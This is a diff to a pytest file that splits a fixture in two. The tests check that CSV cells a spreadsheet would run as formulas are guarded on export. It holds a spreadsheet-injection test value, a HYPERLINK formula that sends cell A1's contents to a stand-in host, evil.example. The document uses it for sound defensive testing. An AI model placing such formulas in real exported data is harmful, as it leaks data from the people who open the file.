@@ -82,7 +82,7 @@ FORMULA_NOTE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
 
 @pytest.fixture
-def hostile_build(project):
+def hostile_inputs(project):
     """The real project plus one valid package whose text a spreadsheet would run."""
     rows = [
         {**GOOD_ROW, "note": FORMULA_NOTE, "provenance": "@SUM(1+1)"},
@@ -91,8 +91,14 @@ def hostile_build(project):
         {**GOOD_ROW, "indicator_id": "ks2_progress_score", "period": "AY2018/19", "value": "-5"},
     ]  # fmt: skip
     write_package(project / "datapackages/hostile", rows)
-    build_site(Project(project))
     return project
+
+
+@pytest.fixture
+def hostile_build(hostile_inputs):
+    """That project built."""
+    build_site(Project(hostile_inputs))
+    return hostile_inputs
 
 
 def _rows(text: str) -> list[dict[str, str]]:
@@ -110,8 +116,9 @@ def test_public_csv_cells_a_spreadsheet_would_run_are_guarded_and_numbers_are_no
     assert FORMULA_NOTE in data["note"].tolist()  # JSON is not a spreadsheet: the text is as written
 
 
-def test_the_published_record_reads_back_guarded_cells_as_they_were(hostile_build):
-    project = hostile_build
+def test_the_published_record_reads_back_guarded_cells_as_they_were(hostile_inputs):
+    # The record is taken from the packages, so nothing needs building.
+    project = hostile_inputs
     record = project / "published/observations.csv"
     assert take_snapshot(project / "datapackages", record, root=project).ok
     assert "'-5 years" in record.read_text()
